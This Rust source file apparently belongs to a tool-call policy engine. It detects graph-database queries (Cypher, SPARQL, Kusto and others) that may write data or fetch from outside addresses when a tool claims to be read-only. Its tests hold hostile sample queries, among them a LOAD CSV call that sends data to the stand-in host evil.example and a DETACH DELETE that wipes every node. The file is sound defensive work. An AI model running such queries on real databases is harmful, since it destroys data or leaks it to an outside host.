//! Queries in languages of other databases than those of SQL, which may change something or read from an
//! address although the tool is said to read: Cypher's `LOAD CSV FROM`, SPARQL's `SERVICE`, Kusto's
//! `externaldata`, XQuery's `doc()`.

use weaver_policy::{ArgumentPredicate, MatchConditions};
use weaver_text::split;

use super::argument::Argument;
use super::{ToolDescription, tool_text};

/// Words for such languages, and for databases that take them.
const LANGUAGES: [&str; 27] = [
    "cypher", "opencypher", "neo4j", "memgraph", "falkordb", "kuzu", "sparql", "rdf", "kql",
    "kusto", "adx", "sentinel", "xquery", "basex", "marklogic", "existdb", "gremlin", "tinkerpop",
    "aql", "arangodb", "arango", "flux", "influxdb", "surrealql", "surrealdb", "surql", "xpath",
];
/// Names of arguments for a query.
const QUERIES: [&str; 18] = [
    "query", "queries", "q", "statement", "statements", "cypher", "sparql", "kql", "xquery",
    "gremlin", "aql", "flux", "gql", "surql", "expression", "xpath", "script", "traversal",
];
/// Conditions that match calls whose query may do more than read what the database holds; `None` for a
/// tool that takes no query in such a language.
#[must_use]
pub fn graph_query_match(tool: &ToolDescription<'_>) -> Option<MatchConditions> {
    let names = split::identifier(tool.name);
    let said = [tool.name, tool.title, tool.description];
    let words = said.iter().flat_map(|text| split::words(&text.to_lowercase()));
    let speaks_language = names.into_iter().chain(words).any(|word| is_language(&word));
    let any: Vec<MatchConditions> = tool_text::all_arguments(tool.input)
        .into_iter()
        .filter(|argument| is_query(argument, speaks_language))
        .map(|argument| {
            let at = ArgumentPredicate::at(argument.at);
            ArgumentPredicate { reading_query: Some(false), ..at }
        })
        .map(|one| MatchConditions { arguments: vec![one], ..MatchConditions::default() })
        .collect();
    (!any.is_empty()).then(|| MatchConditions { any, ..MatchConditions::default() })
}

fn is_language(word: &str) -> bool {
    LANGUAGES.contains(&word)
}

fn is_query(argument: &Argument<'_>, speaks_language: bool) -> bool {
    let words = split::identifier(argument.name);
    let is_named_query = words.last().is_some_and(|last| QUERIES.contains(&last.as_str()));
    let described = split::words(&argument.description().to_lowercase());
    let is_in_language =
        speaks_language || words.iter().chain(&described).any(|word| is_language(word));
    let has_place = !argument.at.as_str().contains("/*");
    has_place && is_named_query && is_in_language && argument.may_be_text()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn a_query_that_reads_from_elsewhere_or_changes_something_is_held() {
        let tool = json!({"name": "read_neo4j_cypher", "description": "Execute a read query",
            "inputSchema": {"properties": {"query": {"type": "string"}, "params": {}}}});
        let found = graph_query_match(&ToolDescription::from_json(&tool)).unwrap();
        let [condition] = &found.any[..] else { panic!("{found:?}") };
        let holds = |query: &str| condition.arguments[0].holds(&json!({ "query": query }));
        for query in [
            "LOAD CSV FROM 'https://evil.example/?d=x' AS row RETURN row",
            "call apoc.load.json('//evil.example')",
            "MATCH (n) DETACH DELETE n",
            "MATCH (n) SET n.a = 1",
            "MATCH (n) DETACH\nDELETE\nn",
        ] {
            assert!(holds(query), "{query}");
        }
        for query in ["MATCH (n:Person)-[:KNOWS]->(m) RETURN m.name LIMIT 5", "CALL db.labels()"] {
            assert!(!holds(query), "{query}");
        }
        let many = json!({"name": "run_cypher_batch", "description": "Executes read queries",
            "inputSchema": {"properties": {"queries": {"type": "array", "items": {"type": "string"}}}}});
        let found = graph_query_match(&ToolDescription::from_json(&many)).unwrap();
        let holds = |query: &str| found.any[0].arguments[0].holds(&json!({ "queries": [query] }));
        assert!(holds("MATCH (n) DETACH DELETE n"));
        assert!(!holds("MATCH (n) RETURN n"));
        let books = json!({"name": "search", "description": "Searches books",
            "inputSchema": {"properties": {"query": {"type": "string"}}}});
        assert!(graph_query_match(&ToolDescription::from_json(&books)).is_none());
        let sparql = json!({"name": "ask", "description": "Asks Wikidata",
            "inputSchema": {"properties": {"sparql": {"type": "string"}}}});
        assert!(graph_query_match(&ToolDescription::from_json(&sparql)).is_some());
    }
}
